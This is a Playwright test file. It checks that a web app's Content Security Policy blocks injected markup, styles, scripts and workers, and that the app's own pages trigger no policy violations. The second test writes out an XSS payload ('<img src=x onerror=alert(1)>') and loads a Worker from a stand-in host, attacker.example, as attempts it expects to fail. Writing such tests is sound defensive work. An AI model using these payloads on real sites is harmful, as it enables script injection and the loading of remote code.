import { expect, test, type Page } from 'playwright/test';
import { openTab, paths, viewOf } from './journey.ts';

/** What the browser refused because of the page's policy. */
function refusalsOn(page: Page): string[] {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted|violates/.test(message.text())) refusals.push(message.text());
  });
  return refusals;
}

test('the pages, their dialogs and workers do nothing that their policy forbids', async ({ page }) => {
  const refusals = refusalsOn(page);
  for (const path of [paths.overview, paths.instances, paths.failures, paths.throughput, paths.import]) {
    await page.goto(path);
    await expect(page.getByRole('main')).toBeVisible();
  }
  await page.goto(paths.instance('order-1003'));
  // Drawn by a worker.
  await openTab(page, 'Graph');
  await expect(viewOf(page, 'Graph').getByText('ChargeCard').first()).toBeVisible();
  for (const tab of ['Timeline', 'Sequence', 'History', 'Payloads', 'Family'] as const)
    await openTab(page, tab);
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog')).toBeVisible();
  // The style of the dialog that keeps the page from scrolling is in force.
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden');
  expect(refusals).toEqual([]);
});

test('what somebody smuggles into a page is neither markup nor style nor script', async ({ page }) => {
  const refusals = refusalsOn(page);
  await page.goto(paths.overview);
  await expect(page.getByRole('main')).toBeVisible();
  const outcome = await page.evaluate(() => {
    const attempt = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const add = (tag: 'style' | 'script', text: string) => {
      const element = document.createElement(tag);
      element.append(text);
      document.head.append(element);
    };
    const markup = attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'));
    const worker = attempt(() => new Worker('https://attacker.example/worker.js'));
    add('style', 'body { --smuggled: yes }');
    attempt(() => add('script', 'window.smuggled = true'));
    const style = getComputedStyle(document.body).getPropertyValue('--smuggled');
    return { markup, worker, style, script: 'smuggled' in window };
  });
  expect(outcome).toEqual({ markup: 'TypeError', worker: 'TypeError', style: '', script: false });
  expect(refusals.length).toBeGreaterThan(2);
});
